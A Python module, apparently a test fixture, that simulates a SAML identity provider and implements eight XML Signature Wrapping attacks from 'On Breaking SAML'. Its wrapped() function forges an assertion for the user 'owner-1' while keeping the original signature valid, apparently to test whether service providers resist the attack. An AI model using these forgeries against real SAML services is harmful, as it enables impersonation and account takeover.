"""A SAML directory: answers requests with signed responses, and an attacker who rearranges them.

Signing is python3-saml's, as other directories' libraries would; what is rearranged are the eight ways of Somorovsky et
al., "On Breaking SAML" (2012).
"""

import base64
import zlib
from copy import deepcopy
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import parse_qsl, urlsplit

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from lxml import etree
from onelogin.saml2.utils import OneLogin_Saml2_Utils

ENTITY, SSO = "https://directory.example/entity", "https://directory.example/sso"
P, A, D = (
    "urn:oasis:names:tc:SAML:2.0:protocol",
    "urn:oasis:names:tc:SAML:2.0:assertion",
    "http://www.w3.org/2000/09/xmldsig#",
)
PERSISTENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"


def _key_pair() -> tuple[str, str]:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "directory.example")])
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
        .serial_number(1).not_valid_before(now - timedelta(days=1)).not_valid_after(now + timedelta(days=30))
        .sign(key, hashes.SHA256())
    )  # fmt: skip
    pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    return pem.decode(), certificate.public_bytes(serialization.Encoding.PEM).decode()


@dataclass
class Directory:
    """Knows its users; signs."""

    pair: tuple[str, str] = field(default_factory=_key_pair)

    @property
    def certificate(self) -> str:
        return self.pair[1]

    def answer(
        self, address: str, back: str, *, subject: str = "dana-1", email: str = "dana@corner.example", **change: Any
    ) -> etree._Element:
        """An unsigned response to the request in ``address``."""
        packed = dict(parse_qsl(urlsplit(address).query))["SAMLRequest"]
        request = etree.fromstring(zlib.decompress(base64.b64decode(packed), -15))
        now, told = datetime.now(UTC), {
            "asked": request.get("ID"), "audience": back, "recipient": back, "issuer": ENTITY, "age": timedelta(0),
        } | change  # fmt: skip
        at = {
            name: (now - told["age"] + timedelta(minutes=minutes)).strftime("%Y-%m-%dT%H:%M:%SZ")
            for name, minutes in (("now", 0), ("before", -1), ("after", 5))
        }
        return etree.fromstring(
            f'<p:Response xmlns:p="{P}" xmlns:a="{A}" ID="_response" Version="2.0" IssueInstant="{at["now"]}" '
            f'Destination="{told["recipient"]}" InResponseTo="{told["asked"]}"><a:Issuer>{told["issuer"]}</a:Issuer>'
            '<p:Status><p:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></p:Status>'
            f'<a:Assertion ID="_assertion" Version="2.0" IssueInstant="{at["now"]}">'
            f'<a:Issuer>{told["issuer"]}</a:Issuer>'
            f'<a:Subject><a:NameID Format="{PERSISTENT}">{subject}</a:NameID>'
            '<a:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">'
            f'<a:SubjectConfirmationData NotOnOrAfter="{at["after"]}" Recipient="{told["recipient"]}" '
            f'InResponseTo="{told["asked"]}"/></a:SubjectConfirmation></a:Subject>'
            f'<a:Conditions NotBefore="{at["before"]}" NotOnOrAfter="{at["after"]}"><a:AudienceRestriction>'
            f'<a:Audience>{told["audience"]}</a:Audience></a:AudienceRestriction></a:Conditions>'
            f'<a:AuthnStatement AuthnInstant="{at["now"]}"><a:AuthnContext><a:AuthnContextClassRef>'
            'urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</a:AuthnContextClassRef>'
            '</a:AuthnContext></a:AuthnStatement><a:AttributeStatement>'
            f'<a:Attribute Name="email"><a:AttributeValue>{email}</a:AttributeValue></a:Attribute>'
            '<a:Attribute Name="displayName"><a:AttributeValue>Dana Fox</a:AttributeValue></a:Attribute>'
            '</a:AttributeStatement></a:Assertion></p:Response>'
        )  # fmt: skip

    def signed(self, response: etree._Element, **more: Any) -> etree._Element:
        """The response with its assertion signed."""
        assertion = response.find(f"{{{A}}}Assertion")
        assert assertion is not None
        done = OneLogin_Saml2_Utils.add_sign(etree.tostring(assertion), *self.pair, **more)
        response.replace(assertion, etree.fromstring(done))
        return response


def encoded(response: etree._Element) -> str:
    return base64.b64encode(etree.tostring(response)).decode()


def wrapped(response: etree._Element, way: int) -> etree._Element:
    """A signed response rearranged so that the signature still covers the original, and the evil one is read."""
    assertion = response.find(f"{{{A}}}Assertion")
    assert assertion is not None
    evil = deepcopy(assertion)
    signature = evil.find(f"{{{D}}}Signature")
    assert signature is not None
    evil.remove(signature)
    evil.set("ID", "_evil")
    name = evil.find(f".//{{{A}}}NameID")
    assert name is not None
    name.text = "owner-1"
    inner = assertion.find(f"{{{D}}}Signature")
    assert inner is not None
    if way in {1, 2}:  # the whole original response beside or inside a signature of the evil one
        shell, original = deepcopy(response), deepcopy(response)
        shell.replace(shell.find(f"{{{A}}}Assertion"), evil)
        shell.set("ID", "_evil_response")
        holder = deepcopy(inner)
        (holder if way == 1 else shell).append(original)
        shell.insert(1, holder)
        return shell
    if way == 3:
        response.insert(2, evil)
    elif way == 4:
        response.replace(assertion, evil)
        evil.append(assertion)
    elif way == 5:
        response.replace(assertion, evil)
        assertion.remove(inner)
        evil.insert(1, inner)
        response.append(assertion)
    elif way == 6:
        response.replace(assertion, evil)
        assertion.remove(inner)
        evil.insert(1, inner)
        inner.append(assertion)
    elif way == 7:
        extensions = etree.SubElement(response, f"{{{P}}}Extensions")
        response.insert(1, extensions)
        extensions.append(evil)
    else:
        response.replace(assertion, evil)
        evil.insert(1, inner)
        holder = etree.SubElement(inner, f"{{{D}}}Object")
        assertion_without = deepcopy(assertion)
        holder.append(assertion_without)
    return response
